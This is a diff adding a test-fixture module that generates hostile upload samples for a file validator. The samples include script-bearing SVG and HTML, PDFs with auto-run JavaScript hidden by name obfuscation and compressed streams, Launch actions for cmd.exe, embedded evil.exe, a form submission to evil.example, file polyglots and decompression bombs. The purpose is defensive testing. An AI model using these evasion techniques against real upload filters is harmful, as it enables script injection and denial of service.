@@ -1,0 +1,273 @@
+import { randomBytes } from 'node:crypto'
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
+import * as image from './image-samples.ts'
+import { aBankReceipt, aCompressedPdf, aFlateStream, aPdf, aStream } from './pdf-samples.ts'
+
+/** Stands in what must not survive. */
+const evil = 'HOSTILE'
+const html = `<!doctype html><html><script>alert('${evil}')</script></html>`
+const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${evil}')"><script>1</script></svg>`
+const text = (content: string) => Buffer.from(content, 'latin1')
+const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part as string)))
+const huge = { width: 60_000, height: 60_000 }
+const script = `<< /S /JavaScript /JS (app.alert('${evil}')) >>`
+
+function aZip(name = 'evil.html', content = html): Buffer {
+  const fields = Buffer.alloc(26)
+  fields.writeUInt16LE(10, 0)
+  fields.writeUInt32LE(crc32(content), 10)
+  fields.writeUInt32LE(content.length, 14)
+  fields.writeUInt32LE(content.length, 18)
+  fields.writeUInt16LE(name.length, 22)
+  const local = join('PK\x03\x04', fields, name, content)
+  const central = join('PK\x01\x02', Buffer.from([10, 0]), fields, Buffer.alloc(14), name)
+  const end = Buffer.alloc(18)
+  end.writeUInt16LE(1, 4)
+  end.writeUInt16LE(1, 6)
+  end.writeUInt32LE(central.length, 8)
+  end.writeUInt32LE(local.length, 12)
+  return join(local, central, 'PK\x05\x06', end)
+}
+
+type Requirement = 'FILE-1' | 'FILE-2' | 'FILE-4'
+type Sample = { name: string; make: () => Buffer | Promise<Buffer>; code: string; proves: Requirement }
+const refused =
+  (code: string, proves: Requirement = 'FILE-4') =>
+  (name: string, make: Sample['make']): Sample => ({ name, make, code, proves })
+const wrongType = refused('file_type_not_accepted', 'FILE-1')
+const notPlain = refused('pdf_not_plain')
+const tooComplex = refused('pdf_too_complex')
+const damagedPdf = refused('pdf_damaged')
+const locked = refused('pdf_locked')
+const unreadable = refused('image_unreadable')
+const tooManyPixels = refused('image_too_many_pixels')
+
+const wrongTypes = [
+  refused('file_empty', 'FILE-1')('nothing at all', () => Buffer.alloc(0)),
+  refused('file_too_large', 'FILE-2')('a photo of more than 10 MB', async () =>
+    join(await image.aPhoto(), Buffer.alloc(10 * 1024 * 1024)),
+  ),
+  refused('heic_not_accepted', 'FILE-1')('an iPhone photo', () =>
+    join(Buffer.from([0, 0, 0, 24]), 'ftypheic\0\0\0\0mif1heic'),
+  ),
+  refused('heic_not_accepted', 'FILE-1')('a HEIF picture', () =>
+    join(Buffer.from([0, 0, 0, 24]), 'ftypmif1\0\0\0\0mif1heic'),
+  ),
+  wrongType('an AVIF picture', () => join(Buffer.from([0, 0, 0, 24]), 'ftypavif\0\0\0\0mif1avif')),
+  wrongType('an SVG with a script (also when it is called photo.png)', () => text(svg)),
+  wrongType('an SVG behind an XML declaration', () => text(`<?xml version="1.0"?>\n${svg}`)),
+  wrongType('a web page', () => text(html)),
+  wrongType('a web page behind blank lines', () => text(`\n\n  ${html}`)),
+  wrongType('a GIF', image.aGif),
+  wrongType('a GIF that is also a script', () => text(`GIF89a/*${'\0'.repeat(20)}*/=1;alert('${evil}')`)),
+  wrongType('a TIFF', image.aTiff),
+  wrongType('a ZIP archive', () => aZip()),
+  wrongType('a Word document', () => aZip('word/document.xml')),
+  wrongType('a Windows program', () => join('MZ', Buffer.alloc(58), 'PE\0\0', Buffer.alloc(200))),
+  wrongType('a Linux program', () => join('\x7fELF\x02\x01\x01', Buffer.alloc(200))),
+  wrongType('a shell script', () => text(`#!/bin/sh\necho ${evil}\n`)),
+  wrongType('random bytes', () => join(Buffer.alloc(1), randomBytes(4096))),
+  wrongType('a JPEG with its first byte changed', async () => {
+    const bytes = await image.aPhoto()
+    bytes[0] = 0xfe
+    return bytes
+  }),
+  wrongType('a PostScript program', () => text(`%!PS-Adobe-3.0\n(${evil}) run\n`)),
+  wrongType('a film', () => join(Buffer.from([0, 0, 0, 24]), 'ftypisom\0\0\0\0isommp42')),
+]
+
+const brokenImages = [
+  unreadable('a JPEG cut in half', async () => {
+    const bytes = await image.aPhoto({ width: 400, height: 300 })
+    return bytes.subarray(0, bytes.length / 2)
+  }),
+  unreadable('a JPEG of three bytes', () => Buffer.from([0xff, 0xd8, 0xff])),
+  unreadable('a PNG cut in half', () => {
+    const bytes = image.aPng({ width: 100, height: 100 }, { pixels: randomBytes(101 * 100).map((byte) => byte & 0xfe) })
+    return bytes.subarray(0, bytes.length / 2)
+  }),
+  unreadable('a PNG whose pixels are no pixels', () => image.aPng({ width: 100, height: 100 }, { pixels: text(evil) })),
+  unreadable('a WebP cut in half', async () => {
+    const bytes = await image.aWebp({ width: 64, height: 48 })
+    return bytes.subarray(0, bytes.length / 2)
+  }),
+  tooManyPixels('a small PNG claiming 60000 × 60000 pixels', () => image.aPng(huge, { pixels: Buffer.alloc(1000) })),
+  tooManyPixels('a real flood: 80 million black pixels in 80 KB', () => image.aPng({ width: 10_000, height: 8_000 })),
+  tooManyPixels('a JPEG claiming 60000 × 60000 pixels', async () => image.claimingSize(await image.aPhoto(), huge)),
+  tooManyPixels('a WebP of 80 million black pixels in 34 bytes', () =>
+    Buffer.from('524946461a000000574542505650384c0e0000002f0fe7cf07071011fd0f4444ff03', 'hex'),
+  ),
+]
+
+/** Compressed, except for the words in front. */
+function deflatedBehind(words: string, data: string): Buffer {
+  let [a, b] = [1, 0]
+  for (const byte of text(words + data)) {
+    a = (a + byte) % 65_521
+    b = (b + a) % 65_521
+  }
+  const sum = Buffer.alloc(4)
+  sum.writeUInt32BE(b * 65_536 + a)
+  const stored = Buffer.from([0, words.length, 0, 255 - words.length, 255])
+  return join(Buffer.from([0x78, 0x9c]), stored, words, deflateRawSync(text(data)), sum)
+}
+
+const hiddenScript = { catalog: '/OpenAction 4 0 R', objects: [script] }
+
+const pdfsThatAct = [
+  notPlain('a PDF that runs a script when opened', () => aPdf({ catalog: `/OpenAction ${script}` })),
+  notPlain('a PDF with its script spelled in numbers', () =>
+    aPdf({ catalog: `/OpenAction << /S /#4a#61v#61Script /#4AS (app.alert('${evil}')) >>` }),
+  ),
+  notPlain('a PDF with a script by name', () =>
+    aPdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: [script] }),
+  ),
+  notPlain('a PDF with its script in a compressed object', () => aCompressedPdf(hiddenScript)),
+  notPlain('a PDF with its script spelled in numbers in a compressed object', () =>
+    aCompressedPdf({ catalog: `/OpenAction<</S/J#61vaScript/J#53(app.alert('${evil}'))>>` }),
+  ),
+  notPlain('a PDF with its script in a compressed object that does not say what it is', () =>
+    aCompressedPdf({
+      ...hiddenScript,
+      wrap: (data, entries) => aFlateStream(data, entries.replace('/Type/ObjStm', '')),
+    }),
+  ),
+  notPlain('a PDF with its script in a compressed object that seems to end early', () =>
+    aCompressedPdf({
+      ...hiddenScript,
+      wrap: (data, entries) => aStream(deflatedBehind('% endstream endobj\n', data), `/Filter /FlateDecode ${entries}`),
+    }),
+  ),
+  notPlain('a PDF with its script in a string of a compressed object, where the table may point', () =>
+    aCompressedPdf({ objects: [`(${script})`] }),
+  ),
+  notPlain('a PDF with an object of objects that is not compressed', () =>
+    aCompressedPdf({ ...hiddenScript, wrap: aStream }),
+  ),
+  tooComplex('a PDF with its script compressed twice', () =>
+    aCompressedPdf({
+      ...hiddenScript,
+      wrap: (data, entries) => {
+        const twice = deflateSync(deflateSync(text(data)))
+        return aStream(twice, `/Filter [/FlateDecode /FlateDecode] ${entries}`)
+      },
+    }),
+  ),
+  tooComplex('a PDF with its script written in hexadecimal', () =>
+    aCompressedPdf({
+      ...hiddenScript,
+      wrap: (data, entries) => aStream(text(data).toString('hex'), `/Filter /ASCIIHexDecode ${entries}`),
+    }),
+  ),
+  tooComplex('a PDF that names its compression elsewhere', () =>
+    aCompressedPdf({
+      ...hiddenScript,
+      wrap: (data, entries) => aStream(deflateSync(text(data)), `/Filter 9 0 R ${entries}`),
+    }),
+  ),
+  notPlain('a PDF with its script behind a string that looks like a stream', () =>
+    aPdf({ catalog: `/Note (>>\nstream\n) /OpenAction << /S /Rendition#20 /JS (app.alert('${evil}')) >>` }),
+  ),
+  notPlain('a PDF with its script in an object inside the data of another', () =>
+    aPdf({ objects: [aStream(`9 0 obj << /JS (app.alert('${evil}')) >> endobj`)] }),
+  ),
+  notPlain('a PDF that starts a program', () => aPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
+  notPlain('a PDF that starts a program from a page', () =>
+    aPdf({ objects: ['<< /Type /Annot /Subtype /Link /A << /S /La#75nch /Win << /F (cmd.exe) >> >> >>'] }),
+  ),
+  notPlain('a PDF with a file inside', () =>
+    aPdf({
+      catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
+      objects: ['<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>', aFlateStream(evil, '/Type /EmbeddedFile')],
+    }),
+  ),
+  notPlain('a PDF with a file inside that does not say so', () =>
+    aCompressedPdf({ catalog: '/AF[4 0 R]', objects: ['<</F(evil.exe)/EF<</F 9 0 R>>>>'] }),
+  ),
+  notPlain('a PDF with a film', () => aPdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
+  notPlain('a PDF with an XFA form', () =>
+    aPdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [aFlateStream(evil)] }),
+  ),
+  notPlain('a PDF that sends its form away', () =>
+    aPdf({ objects: ['<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'] }),
+  ),
+]
+
+const otherPdfs = [
+  locked('a PDF locked with a password', () => aBankReceipt({ userPassword: 'secret', pdfVersion: '1.7' })),
+  locked('a PDF that only forbids printing', () => aBankReceipt({ ownerPassword: 'secret', permissions: {} })),
+  locked('a PDF with its lock spelled in numbers', () => aPdf({ trailer: '/#45ncrypt 9 0 R' })),
+  damagedPdf('a PDF cut in half', async () => {
+    const bytes = await aBankReceipt()
+    return bytes.subarray(0, bytes.length / 2)
+  }),
+  damagedPdf('a PDF without its table', () => text('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n')),
+  damagedPdf('a PDF whose table lies outside', () => text('%PDF-1.4\nstartxref\n99999\n%%EOF\n')),
+  damagedPdf('a PDF of five bytes', () => text('%PDF-')),
+  wrongType('a PDF with bytes in front', async () => join('\0\0\0 HOSTILE ', await aBankReceipt())),
+  notPlain('a PDF with an archive behind', async () => join(await aBankReceipt(), aZip())),
+  damagedPdf('a PDF with a web page behind', async () => join(await aBankReceipt(), html)),
+  notPlain('a PDF that is also a web page', () => aPdf({ header: `%PDF-1.4\n%${html}` })),
+  notPlain('a PDF that is also an archive', () => aPdf({ objects: [aStream(aZip('evil.txt', evil))] })),
+  refused('pdf_too_many_pages')('a PDF of 101 pages', () => aBankReceipt({ pages: 101 })),
+  refused('pdf_too_many_pages')('a PDF that shows one page a million times', () =>
+    aPdf({ pages: '<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 1000000 >>' }),
+  ),
+  tooComplex('a PDF whose compressed objects grow to 64 MB', () =>
+    aCompressedPdf({ objects: [' '.repeat(64 * 1024 * 1024)] }),
+  ),
+  tooComplex('a PDF whose page grows to 160 MB', () =>
+    aPdf({ objects: [aFlateStream(Buffer.alloc(160_000_000, ' '))] }),
+  ),
+  tooComplex('a PDF of a hundred thousand objects', () =>
+    aPdf({ objects: Array.from({ length: 100_000 }, () => 'null') }),
+  ),
+  tooComplex('a PDF of a million names', () => aPdf({ objects: ['/A#41 '.repeat(1_000_000)] })),
+  tooComplex('a PDF of twenty thousand streams', () =>
+    aPdf({ objects: Array.from({ length: 20_000 }, () => aStream('x', '/Filter /FlateDecode')) }),
+  ),
+  tooComplex('a PDF whose every object never ends', () => aPdf({ objects: ['1 0 obj ('.repeat(40_000)] })),
+]
+
+export const refusedSamples: Sample[] = [...wrongTypes, ...brokenImages, ...pdfsThatAct, ...otherPdfs]
+
+const manyTexts = Array.from({ length: 300 }, () => image.pngChunk('tEXt', `Comment\0${evil}`))
+const textBomb = image.pngChunk('zTXt', join('Comment\0\0', deflateSync(Buffer.alloc(7_000_000, evil))))
+const xmp = `XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>${evil}</x:xmpmeta>`
+
+/** Pictures that carry more than pixels: they come out as pixels only. */
+export const cleanedSamples: Pick<Sample, 'name' | 'make'>[] = [
+  { name: 'a phone photo that says where it was taken', make: () => image.aPhonePhoto() },
+  { name: 'a JPEG that is also an archive', make: async () => join(await image.aPhoto(), aZip()) },
+  { name: 'a JPEG with a web page behind', make: async () => join(await image.aPhoto(), html) },
+  {
+    name: 'a JPEG with a web page in its comment',
+    make: async () => {
+      const bytes = await image.aPhoto()
+      return join(bytes.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, html.length + 2]), html, bytes.subarray(2))
+    },
+  },
+  { name: 'a JPEG with a PDF behind', make: async () => join(await image.aPhoto(), await aBankReceipt(), evil) },
+  { name: 'a PNG with a program behind', make: () => join(image.aPng({ width: 9, height: 9 }), `MZ${evil}`) },
+  { name: 'a PNG with a web page behind', make: () => join(image.aPng({ width: 9, height: 9 }), html) },
+  { name: 'a PNG with 300 texts', make: () => image.aPng({ width: 9, height: 9 }, { before: manyTexts }) },
+  {
+    name: 'a PNG with a text that grows to 7 MB',
+    make: () => image.aPng({ width: 9, height: 9 }, { before: [textBomb] }),
+  },
+  {
+    name: 'a PNG with XMP',
+    make: () => image.aPng({ width: 9, height: 9 }, { before: [image.pngChunk('iTXt', xmp)] }),
+  },
+  {
+    name: 'a PNG with a script in its pixels',
+    make: () => image.aPng({ width: 7, height: 1 }, { pixels: text(`\0${evil}`) }),
+  },
+  {
+    name: 'a PNG with 100 MB behind its pixels',
+    make: () => image.aPng({ width: 9, height: 9 }, { pixels: Buffer.alloc(100_000_000) }),
+  },
+  { name: 'a PNG of 49 million black pixels in 50 KB', make: () => image.aPng({ width: 7_000, height: 7_000 }) },
+  { name: 'an animated PNG', make: () => image.anAnimatedPng() },
+  { name: 'an animated WebP', make: () => image.anAnimatedWebp() },
+]
